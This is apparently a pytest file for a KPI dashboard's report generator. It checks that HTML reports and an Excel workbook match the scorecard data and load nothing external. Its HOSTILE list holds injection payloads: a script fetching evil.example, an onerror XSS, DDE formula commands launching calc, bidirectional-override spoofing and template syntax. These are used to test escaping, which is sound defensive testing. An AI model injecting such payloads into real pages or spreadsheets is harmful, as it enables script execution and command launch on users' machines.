"""Reports of the loaded demo company: the numbers of the scorecard, in files that load nothing and obey no data."""

import re
import shutil
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import duckdb
import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from pipelines.answers.questions import QuestionError
from pipelines.output import UsageError
from pipelines.pages.report import write_report, write_reports
from pipelines.pages.roles import ROLES
from pipelines.pages.words import LANGUAGES
from tests.conftest import Installation
from tests.integration.pages.reading import read

ZONE = ZoneInfo("Europe/Warsaw")
PAGES = "https://kpi.example.org/pages"
MOST_BYTES = 500_000
# What makes a browser load something, or send something, without anybody having clicked.
LOADING = {"script", "link", "img", "iframe", "frame", "object", "embed", "audio", "video", "source", "track", "form"}
LOADING |= {"base", "image", "use", "foreignobject", "animate", "set", "portal", "template"}
LOADING_ATTRIBUTES = {"style", "src", "srcset", "action", "formaction", "ping", "background", "poster"}


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its texts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


@pytest.fixture(scope="module")
def folder(untouched_demo: Installation, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo company's publication, with the reports of this test's address."""
    return written(tmp_path_factory.mktemp("publication"), untouched_demo)


def written(folder: Path, demo: Installation, *changes: str) -> Path:
    """A copy of the publication after `changes`, and its reports."""
    shutil.copy(demo.data_dir / "published" / "kpi.duckdb", folder / "kpi.duckdb")
    with duckdb.connect(str(folder / "kpi.duckdb")) as connection:
        for change in changes:
            connection.execute(change)
    write_reports(folder, ZONE, PAGES, LANGUAGES)
    return folder


def pages_in(folder: Path) -> Iterator[tuple[Path, str]]:
    files = sorted((folder / "reports").glob("*.html"))
    assert [file.name for file in files] == sorted(f"{role}.{lang}.html" for role in ROLES for lang in LANGUAGES)
    for file in files:
        yield file, file.read_text(encoding="utf-8")


def test_every_number_of_a_cell_is_that_of_the_scorecard(folder: Path) -> None:
    compared = 0
    with duckdb.connect(str(folder / "kpi.duckdb"), read_only=True) as connection:
        for file, text in pages_in(folder):
            numbers = [number for number in read(text).numbers if number.column]
            assert numbers, file.name
            for number in numbers:
                expected = scorecard_says(connection, number.column, number.cell)
                assert Decimal(number.value) == expected, (file.name, number)
                compared += 1
    assert compared > 300


def scorecard_says(connection: duckdb.DuckDBPyConnection, column: str, cell: str) -> Decimal | None:
    kpi_id, variant, grain, start, entity_type, entity_id = cell.split(" ", 5)
    [[found]] = connection.execute(
        f"select {column} from marts.kpi_scorecard where kpi_id = ? and variant = ? and grain = ? "
        "and period_start = cast(? as date) and entity_type = ? and entity_id = ?",
        [kpi_id, variant, grain, start, entity_type, entity_id],
    ).fetchall()
    return None if found is None else Decimal(found)


def test_a_report_has_all_numbers_of_the_page_that_is_served(folder: Path, pages: TestClient) -> None:
    for file, text in pages_in(folder):
        role, language, _ = file.name.split(".")
        assert read(text).numbers == read(pages.get(f"/{language}/{role}").text).numbers != []


def test_a_report_is_small_and_loads_nothing(folder: Path) -> None:
    for file, text in pages_in(folder):
        assert len(text.encode()) < MOST_BYTES, file.name
        assert loaded(text) == [], file.name
        assert "default-src 'none'" in text


def loaded(text: str) -> list[str]:
    """What of a page makes a browser load or send something."""
    found = []
    for tag, attributes in Elements(text).found:
        if tag in LOADING:
            found.append(tag)
        for name, value in attributes.items():
            # Only links may name an address, and they wait for a click.
            if name.startswith("on") or name in (
                "style",
                "src",
                "srcset",
                "action",
                "formaction",
                "ping",
                "background",
            ):
                found.append(f"{tag} {name}")
            if name.endswith("href") and (tag != "a" or not str(value).startswith((f"{PAGES}/", "#"))):
                found.append(f"{tag} {name}={value}")
        if attributes.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            found.append(str(attributes))
    return found + re.findall(r"url\(|@import", text)


def test_the_links_of_a_report_name_its_period(folder: Path) -> None:
    """Links of numbers of other periods, such as the one in progress, name those."""
    page = read((folder / "reports" / "leaders.pl.html").read_text(encoding="utf-8"))
    inside = [link for link in page.all_links if "/pl/" in link.address and not link.address.endswith("/pl/")]
    assert inside
    assert [link.address for link in inside if not link.numbers and "period=2025-12" not in link.address] == []
    assert [link.address for link in inside if not re.search(r"period=20\d\d-\d\d\b", link.address)] == []
    of_cells = [(number.cell.split()[3][:7], link.address) for link in inside for number in link.numbers if number.cell]
    assert {period for period, _ in of_cells} >= {"2025-12", "2026-01"}
    assert [address for period, address in of_cells if f"period={period}" not in address] == []


def test_the_workbook_has_typed_numbers_of_the_scorecard(folder: Path) -> None:
    book = load_workbook(folder / "reports" / "kpi.en.xlsx")
    titles = ["Scorecard", *(page.title for page in ROLES.values()), "Definitions", "Checks"]
    assert book.sheetnames == titles
    with duckdb.connect(str(folder / "kpi.duckdb"), read_only=True) as connection:
        expected = connection.execute(
            """
            select variants.name_en, period_start, value, target, sample_size
            from marts.kpi_scorecard
            inner join marts.kpi_variants as variants using (kpi_id, variant)
            where entity_type = 'company' and grain = 'month' and period_start >= '2025-01-01'
            """
        ).fetchall()
        [[variants]] = connection.execute("select count(*) from marts.kpi_variants").fetchall()
    rows = records(book["Scorecard"])
    said = [(row["Variant"], row["First day"].date(), row["Value"], row["Target"], row["Cases"]) for row in rows]
    assert sorted(map(rounded, said), key=repr) == sorted(map(rounded, expected), key=repr)
    revenue = next(row for row in rows_of(book["Sales leaders"]) if row[1].value == "Net revenue")
    assert (revenue[5].data_type, revenue[5].number_format) == ("n", "#,##0.00")
    assert revenue[3].is_date
    assert len(records(book["Checks"])) > 100
    assert len(records(book["Definitions"])) == variants


def records(sheet: Any) -> list[dict[str, Any]]:
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


def rows_of(sheet: Any) -> list[Any]:
    return list(sheet.iter_rows(min_row=2))


def rounded(row: tuple[Any, ...]) -> tuple[Any, ...]:
    """Numbers as Excel keeps them, with fifteen digits."""
    name, start, *numbers = row
    return name, str(start), *(None if number is None else f"{float(number):.10g}" for number in numbers)


HOSTILE = [
    "<script>fetch('http://evil.example/')</script>",
    '"><img src=http://evil.example/x onerror=alert(1)>',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT ISOLATE}</svg><a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}",
]


def test_hostile_names_are_text_in_every_report_and_in_the_workbook(
    untouched_demo: Installation, tmp_path: Path
) -> None:
    text = "".join(HOSTILE).replace("'", "''")
    changes = [
        f"update marts.{table} set entity_id = '{text}' || entity_id, entity_name = '{text}' || entity_id "
        "where entity_type <> 'company'"
        for table in ("kpi_scorecard", "kpi_scorecard__to_date")
    ]
    for table, columns in {
        "marts.kpi_variants": ("name_en", "name_pl", "formula_en", "formula_pl"),
        "marts.kpi_catalogue": ("name_en", "name_pl", "description_en", "description_pl"),
        "meta.check_results": ("observed", "expected"),
    }.items():
        # What begins with the text is the worst case for a workbook.
        changes += [f"update {table} set {column} = '{one.replace(chr(39), chr(39) * 2)}' || {column}"
                    for column, one in zip(columns, HOSTILE[2:], strict=False)]  # fmt: skip
        changes += [f"update {table} set {column} = {column} || '{text}'" for column in columns]
    changes.append(
        "insert into meta.deliveries_in_question (source, table_name, delivered_on, state, problems) "
        f"values ('{text}', '{text}', '2026-01-09', 'missing', '{text}')"
    )
    folder = written(tmp_path, untouched_demo, *changes)
    shown = 0
    for file, page in pages_in(folder):
        assert loaded(page) == [], file.name
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", page), file.name
        shown += sum("fetch('http://evil.example/')" in said for said in Elements(page).texts)
    assert shown > 50
    book = load_workbook(folder / "reports" / "kpi.en.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n", "d", "b"}
    assert [cell for cell in cells if cell.hyperlink] == []
    texts = [str(cell.value) for cell in cells if cell.data_type == "s"]
    assert any(one.startswith("=cmd|") for one in texts)
    assert not any(re.search("[\u202a-\u202e\u2066-\u2069]", one) for one in texts)


@pytest.mark.nightly
def test_reports_are_replaced_together_or_not_at_all(
    untouched_demo: Installation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = written(tmp_path, untouched_demo)
    before = {file: file.read_bytes() for file in (folder / "reports").iterdir()}

    def breaks(*_: Any) -> None:
        raise OSError("the disk is full")

    with monkeypatch.context() as patched:
        patched.setattr("pipelines.pages.report.write_workbook", breaks)
        with pytest.raises(OSError, match="the disk is full"):
            write_reports(folder, ZONE, PAGES, LANGUAGES)
    assert {file: file.read_bytes() for file in (folder / "reports").iterdir()} == before
    write_reports(folder, ZONE, "https://elsewhere.example.org", ["en"])
    assert "https://elsewhere.example.org/en/" in (folder / "reports" / "aes.en.html").read_text(encoding="utf-8")
    assert sorted(found.name for found in folder.iterdir()) == ["kpi.duckdb", "reports"]


def test_one_report_is_written_where_it_is_asked_for(folder: Path, tmp_path: Path) -> None:
    page = write_report(folder, ZONE, PAGES, "leaders", "pl", file=tmp_path / "page.html")
    assert '<html lang="pl">' in page.read_text(encoding="utf-8")
    book = write_report(folder, ZONE, PAGES, "sdrs", "en", as_workbook=True, file=tmp_path / "book.xlsx")
    assert load_workbook(book).sheetnames == ["Scorecard", "SDRs", "Definitions", "Checks"]


@pytest.mark.parametrize(
    ("role", "language", "said"),
    [
        ("boss", "en", "--role boss: there is no such role. The roles are leaders, managers,"),
        (None, "en", "A page is that of one role: --role ROLE"),
        ("leaders", "xx", "--lang xx: the languages are en, pl"),
    ],
)
def test_what_cannot_be_reported_is_said(folder: Path, role: str | None, language: str, said: str) -> None:
    with pytest.raises(QuestionError, match=re.escape(said)):
        write_report(folder, ZONE, PAGES, role, language)


def test_a_folder_that_is_not_there_is_named(folder: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"none/page\.html cannot be written: No such file or directory"):
        write_report(folder, ZONE, PAGES, "leaders", "en", file=tmp_path / "none" / "page.html")


def test_the_command_says_where_the_report_is(untouched_demo: Installation, tmp_path: Path) -> None:
    page, book = tmp_path / "leaders.html", tmp_path / "all.xlsx"
    said = untouched_demo.kpi("report", "--role", "leaders", "--lang", "pl", "--output", str(page)).stdout
    assert said == f"Written: {page}\n"
    assert '<html lang="pl">' in page.read_text(encoding="utf-8")
    untouched_demo.kpi("report", "--output", str(book))
    assert len(load_workbook(book).sheetnames) == len(ROLES) + 3
    failed = untouched_demo.kpi("report", check=False)
    assert (failed.returncode, failed.stdout) == (2, "")
    assert failed.stderr.startswith("A page is that of one role: --role ROLE. The roles are leaders,")


def test_the_run_wrote_reports_into_the_publication(untouched_demo: Installation) -> None:
    found = {file.name for file in (untouched_demo.data_dir / "published" / "reports").iterdir()}
    assert found == {"kpi.en.xlsx", *(f"{role}.en.html" for role in ROLES)}
